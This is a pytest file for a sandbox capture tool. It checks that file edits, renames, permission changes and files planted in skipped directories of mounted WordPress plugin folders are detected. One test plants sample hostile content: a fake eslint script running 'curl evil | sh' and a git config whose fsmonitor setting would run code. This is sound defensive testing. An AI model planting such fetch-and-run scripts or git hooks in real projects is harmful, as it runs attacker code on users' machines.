"""Capture's stat-signature skip: files untouched since the snapshot are not read, and every way of
changing a file (even with its size and mtime restored) is still captured."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from codebox_tui.bundle import baseline as baseline_module
from codebox_tui.bundle.baseline import take_baselines
from codebox_tui.bundle.capture import capture_bundle
from codebox_tui.bundle.verify import verify_bundle
from codebox_tui.contracts.common import utc_now_iso
from codebox_tui.contracts.runtime import MountSpec, RuntimeInfo, RuntimePolicy
from tests.factories.capture import capture_plain_run
from tests.factories.waiting import wait_for_fs_clock_past


def _same_size_edit_with_old_mtime(path: Path) -> None:
    info = path.stat()
    data = path.read_bytes()
    path.write_bytes(data[:-2] + b"X\n")
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))


def _replace_by_rename(path: Path) -> None:
    info = path.stat()
    data = path.read_bytes()
    twin = path.with_name(path.name + ".tmp")
    twin.write_bytes(data[:-2] + b"Y\n")
    os.utime(twin, ns=(info.st_atime_ns, info.st_mtime_ns))
    os.replace(twin, path)


def _chmod_exec(path: Path) -> None:
    path.chmod(0o755)


@pytest.mark.parametrize(
    ("mutate", "status"),
    [(_same_size_edit_with_old_mtime, "modified"), (_replace_by_rename, "modified"), (_chmod_exec, "modified")],
)
def test_signature_skip_never_hides_a_change(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mutate: Callable[[Path], None], status: str
) -> None:
    source = tmp_path / "plugin"
    (source / "lib").mkdir(parents=True)
    for i in range(20):
        (source / "lib" / f"f{i}.php").write_text(f"<?php // file {i}\n" * 5)
    # Files here are seconds old at most: shrink the racy margin so signatures are recorded at all.
    monkeypatch.setattr(baseline_module, "_RACY_MARGIN_NS", 0)
    wait_for_fs_clock_past(source, tmp_path)  # the mutation below must get a later ctime than the files
    mount = MountSpec(source=str(source), target="/wordpress/wp-content/plugins/p", mode="readwrite")
    (base,) = take_baselines([mount], tmp_path / "scratch")
    assert len(base.signatures) == 20, "the skip path must be exercised"
    mutate(source / "lib" / "f7.php")
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    summary = capture_plain_run(run_dir, [mount], [base])
    assert [(c["relativePath"], c["status"]) for c in summary.changed_files] == [("lib/f7.php", status)]
    assert verify_bundle(run_dir).valid


def test_recent_files_get_no_signature(tmp_path: Path) -> None:
    """With the real margin, a file changed just before the snapshot is hashed, not trusted by stat."""
    source = tmp_path / "plugin"
    source.mkdir()
    (source / "a.php").write_text("<?php\n")
    mount = MountSpec(source=str(source), target="/wordpress/wp-content/plugins/p", mode="readwrite")
    (base,) = take_baselines([mount], tmp_path / "scratch")
    assert base.hashes and not base.signatures


def _git(repo: Path, *args: str) -> None:
    import subprocess

    subprocess.run(
        ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@example.invalid", *args],
        check=True,
        capture_output=True,
    )


@pytest.mark.parametrize(
    ("mutate", "status"),
    [(_same_size_edit_with_old_mtime, "modified"), (_replace_by_rename, "modified"), (_chmod_exec, "modified")],
)
def test_git_work_tree_baseline_is_the_folder_as_given_and_never_hides_a_change(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mutate: Callable[[Path], None], status: str
) -> None:
    repo = tmp_path / "plugin"
    (repo / "lib").mkdir(parents=True)
    for i in range(20):
        (repo / "lib" / f"f{i}.php").write_text(f"<?php // file {i}\n" * 5)
    (repo / ".gitignore").write_text("cache/\n")
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "base")
    # dirty before the run: a modified tracked file, an untracked one and an ignored one
    (repo / "lib" / "f3.php").write_text("<?php // edited before the run\n")
    (repo / "notes.txt").write_text("untracked\n")
    (repo / "cache").mkdir()
    (repo / "cache" / "c.bin").write_text("ignored\n")
    monkeypatch.setattr(baseline_module, "_RACY_MARGIN_NS", 0)
    wait_for_fs_clock_past(repo, tmp_path)  # the mutation below must get a later ctime than the files
    mount = MountSpec(source=str(repo), target="/wordpress/wp-content/plugins/p", mode="readwrite")
    (base,) = take_baselines([mount], tmp_path / "scratch")
    assert base.strategy == "snapshot"
    # the baseline is the folder as the sandbox gets it, whatever git thinks of each file: all of it trusted
    assert set(base.signatures) == {f"lib/f{i}.php" for i in range(20)} | {".gitignore", "notes.txt", "cache/c.bin"}
    mutate(repo / "lib" / "f7.php")
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    summary = capture_plain_run(run_dir, [mount], [base])
    changes = {(c["relativePath"], c["status"]) for c in summary.changed_files}
    # the edits made before the run (f3, notes.txt, cache/) are not the sandbox's: only f7 is reported
    assert changes == {("lib/f7.php", status)}
    assert verify_bundle(run_dir).valid


def _capture(tmp_path: Path, mount: MountSpec, base: object) -> object:
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    return capture_bundle(
        run_dir,
        runtime=RuntimeInfo(id="rt", createdAt=utc_now_iso(), environment={}),
        mounts=[mount],
        baselines=[base],
        policy=RuntimePolicy(commands=["wordpress.run-php"]),  # type: ignore[list-item]
        metadata={},
        secret_values=[],
        evidence=[],
        test_suites=[],
    )


def test_changes_inside_uncaptured_directories_are_reported(tmp_path: Path) -> None:
    import json

    source = tmp_path / "plugin"
    (source / "node_modules" / "pkg").mkdir(parents=True)
    (source / "node_modules" / "pkg" / "index.js").write_text("module.exports = 1;\n")
    (source / "node_modules" / "old.js").write_text("old\n")
    (source / "node_modules" / "keep.js").write_text("keep\n")
    (source / "plugin.php").write_text("<?php\n")
    mount = MountSpec(source=str(source), target="/wordpress/wp-content/plugins/p", mode="readwrite")
    (base,) = take_baselines([mount], tmp_path / "scratch")
    # what a sandbox could plant for the host to run later, none of it captured as file content
    (source / "node_modules" / ".bin").mkdir()
    (source / "node_modules" / ".bin" / "eslint").write_text("#!/bin/sh\ncurl evil | sh\n")
    (source / "node_modules" / "pkg" / "index.js").write_text("module.exports = 2;\n")
    (source / "node_modules" / "old.js").unlink()
    (source / "vendor" / ".git").mkdir(parents=True)
    (source / "vendor" / ".git" / "config").write_text("[core]\n\tfsmonitor = evil\n")
    summary = _capture(tmp_path, mount, base)
    reported = {
        (s["relativePath"], s.get("change"))
        for s in summary.skipped  # type: ignore[attr-defined]
        if s["reason"] == "changed-in-skipped-directory"
    }
    assert reported == {
        ("node_modules/.bin/", "added"),
        ("node_modules/.bin/eslint", "added"),
        ("node_modules/pkg/index.js", "modified"),
        ("node_modules/old.js", "deleted"),
        ("vendor/.git/", "added"),
        ("vendor/.git/config", "added"),
    }
    review = json.loads((tmp_path / "run" / "files" / "review.json").read_text())
    assert "changes-in-uncaptured-directories" in review["riskFlags"]
    assert summary.changed_files == []  # type: ignore[attr-defined]
    assert verify_bundle(tmp_path / "run").valid


def test_own_git_folder_is_not_walked_but_a_created_one_is_reported(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "a.php").write_text("<?php\n")
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-q", "-m", "base")
    mount = MountSpec(source=str(repo), target="/wordpress/wp-content/plugins/r", mode="readwrite")
    (base,) = take_baselines([mount], tmp_path / "scratch")
    assert base.skipped_exclude == frozenset({".git"})  # covered read-only inside the sandbox
    (repo / ".git" / "description").write_text("the user's own git activity during the run\n")
    summary = _capture(tmp_path, mount, base)
    assert [s for s in summary.skipped if s["reason"] == "changed-in-skipped-directory"] == []  # type: ignore[attr-defined]

    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "a.php").write_text("<?php\n")
    mount = MountSpec(source=str(plain), target="/wordpress/wp-content/plugins/p", mode="readwrite")
    (base,) = take_baselines([mount], tmp_path / "scratch2")
    (plain / ".git" / "hooks").mkdir(parents=True)
    (plain / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n")
    run_dir = tmp_path / "run2"
    run_dir.mkdir()
    summary = capture_plain_run(run_dir, [mount], [base])
    assert {s["relativePath"] for s in summary.skipped} == {".git/", ".git/hooks/", ".git/hooks/pre-commit"}
